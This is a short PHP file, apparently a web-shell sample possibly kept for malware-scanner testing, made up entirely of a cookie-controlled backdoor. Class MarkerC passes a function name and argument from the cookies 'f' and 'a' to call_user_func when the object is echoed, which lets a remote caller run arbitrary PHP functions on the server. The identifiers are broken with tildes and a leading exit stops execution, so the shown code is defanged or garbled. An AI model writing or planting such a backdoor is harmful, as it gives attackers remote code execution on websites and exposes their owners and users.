<?php exit; ?>
<?php
class MarkerC { var $f; var $a; function __construct($f, $a) { $this->f = $f; $this->a = $a; } function __toString() { return (string) cal~l_user_func($this->f, $this->a); } } echo new MarkerC($_C~OOKIE['f'], $_C~OOKIE['a']);
